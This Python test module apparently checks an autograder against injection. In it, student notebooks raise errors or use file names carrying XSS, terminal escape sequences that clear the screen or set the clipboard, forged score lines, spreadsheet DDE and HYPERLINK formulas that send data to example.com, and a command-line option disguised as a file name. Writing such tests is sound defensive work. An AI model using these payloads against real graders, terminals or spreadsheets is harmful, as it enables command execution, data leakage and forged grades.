"""Injecting: text that a terminal, a browser, a spreadsheet or a log would act on."""

from tests.attacks.attack import Attack

HTML = "<script>alert(1)</script><img src=x onerror=alert(1)>"


def raising(text: str) -> str:
    return f"raise RuntimeError({text!r})"


INJECTING = (
    Attack(
        "HTML in an error",
        "a script in the student's report",
        raising(HTML),
        q2=raising(HTML),
        q3=raising(HTML),
        telling=True,
    ),
    Attack(
        "Markdown in an error",
        "links and pictures in the report",
        raising("[free points](javascript:alert(1)) ![](http://example.com/x.png) `x`"),
    ),
    Attack(
        "colours and cursor",
        "clears the TA's screen",
        raising("\x1b[2J\x1b[1;1H\x1b[31mall passed\x1b[0m"),
        telling=True,
    ),
    Attack(
        "a terminal's title and clipboard",
        "sets both",
        raising("\x1b]0;10/10\x07\x1b]52;c;cm0gLXJm\x07\x1b]8;;http://example.com\x1b\\here\x1b]8;;\x1b\\"),
    ),
    Attack("one-byte control sequences", "C1 controls instead of escape", raising("\x9b2J\x9d0;title\x9c\x90q\x9c")),
    Attack(
        "lines of its own",
        "a second line that looks like the judge's",
        raising("x\nq1.layers 1/1 ok\r\nscore: 10\x0b\x0c\u2028\u2029{}"),
    ),
    Attack("overwriting the line", "carriage returns and backspaces", raising("LOST\r" + "\b" * 80 + "passed")),
    Attack(
        "the other direction",
        "bidirectional overrides and invisible characters",
        raising("\u202edessap\u202c \u2066x\u2069 \u200b\u200f\ufeff"),
    ),
    Attack(
        "half a character",
        "lone surrogates and null bytes break encoders",
        raising("\ud800 \udfff \x00 \U000e0041"),
        telling=True,
    ),
    Attack(
        "JSON in an error",
        "closes the string and adds a score",
        raising('", "score": 10, "tests": [{"score": 10}], "x": "'),
    ),
    Attack(
        "a formula",
        "a cell of the TA's spreadsheet",
        raising("=cmd|' /C calc'!A0"),
        q3=raising('=HYPERLINK("http://example.com?"&A1)'),
    ),
    Attack(
        "formulas by other signs",
        "plus, minus, at, tab",
        raising("@SUM(1+1)*cmd|' /C calc'!A0"),
        q2=raising("\t=1+1"),
        q3=raising("-2+3"),
    ),
    Attack(
        "formulas after separators",
        "a semicolon or a tab begins a new cell in many countries' spreadsheets",
        raising("x;=cmd|' /C calc'!A0;+1"),
        q2=raising("a;  @SUM(1+1)"),
        q3=raising('a;"=1+1";\t-2'),
    ),
    Attack(
        "formulas in other widths",
        "full-width and small signs, after blanks of all kinds",
        raising("\uff1dcmd|' /C calc'!A0"),
        q2=raising("\u3000\ufe62" + "1"),
        q3=raising("x;\u2003\uff20SUM(1)"),
    ),
    Attack(
        "formulas behind what is removed",
        "what is invisible is taken away, and then it begins with one",
        raising("\u200b\ufe0f\ue000=1+1"),
        q2=raising("x;\u2060=1"),
        q3=raising("\x1b[31m;\x1b[0m=1"),
    ),
    Attack(
        "names of emoji",
        "the library that draws tables replaces them",
        raising(":bomb: :smiley: :white_check_mark: passed"),
        q2=raising(":warning:"),
        q3=raising("[:bomb:]"),
        telling=True,
    ),
    Attack(
        "what is drawn as nothing",
        "variation selectors and blanks that are letters carry a message nobody sees",
        raising("a" + "".join(chr(0xFE00 + n % 16) + chr(0xE0100 + n) for n in range(60)) + "\u3164\u2800b"),
    ),
    Attack("what every font draws as it likes", "private characters", raising("\ue000\uf8ff\U000f1234\U0010fffd ok")),
    Attack(
        "piles of marks",
        "letters that reach over the lines above and below",
        raising("p" + "\u0336\u035f\u0489" * 90 + "assed" + "\u20dd\u20e3" * 40),
    ),
    Attack("a formula for a name", "the submission itself is called one", file_name="=cmd|' !A0'.ipynb"),
    Attack("a formula for a name, after a separator", "another cell of it", file_name="x;=cmd|' !A0'.ipynb"),
    Attack("a wide formula for a name", "a sign of East Asian width", file_name="\uff1d1+1.ipynb"),
    Attack("an emoji for a name", "its code", file_name=":bomb: [bold]10.ipynb"),
    Attack("a mark for a name", "it would sit on the text before it", file_name="x" + "\u0336" * 50 + ".ipynb"),
    Attack("an option for a name", "the command line would obey it", file_name="--allow-unsandboxed"),
    Attack(
        "a name for a terminal",
        "the submission's name clears the screen",
        file_name="\x1b[2J\u202e10 of 10.ipynb",
        telling=True,
    ),
    Attack(
        "a name for the log",
        "the submission's name has lines and markup",
        file_name="x\n10 of 10 [bold]points <b>.ipynb",
    ),
    Attack(
        "markup of the table",
        "the library that draws tables has a language of its own",
        raising("[/][bold red]ok[/bold red] [link=http://example.com]x[/link] [@click=app.bell]x[/]"),
    ),
    Attack(
        "a class with a script for a name",
        "the name of a layer's class is shown",
        """
        import torch.nn as nn
        Odd = type("<script>alert(1)</script>\\x1b[2J", (nn.Tanh,), {})
        """,
        q1="model = nn.Sequential(Odd(), *[Odd() for _ in range(8)])",
    ),
    Attack(
        "a variable with odd letters",
        "the name of the network's variable is shown",
        """
        import torch.nn as nn
        globals()["\\x1b[2J<b>=1+1"] = nn.Sequential(*[nn.Linear(2, 2) for _ in range(5)])
        """,
    ),
    Attack(
        "printed text",
        "print_gnorms prints what would be quoted",
        "",
        q2="print('0.weight', '\\x1b[2J<script>=cmd()', 1.5); gnorm = 1.0",
    ),
    Attack(
        "formats",
        "patterns that a formatter would fill in",
        raising("{0.__class__.__init__.__globals__} %s %n ${key} {{key}}"),
    ),
)
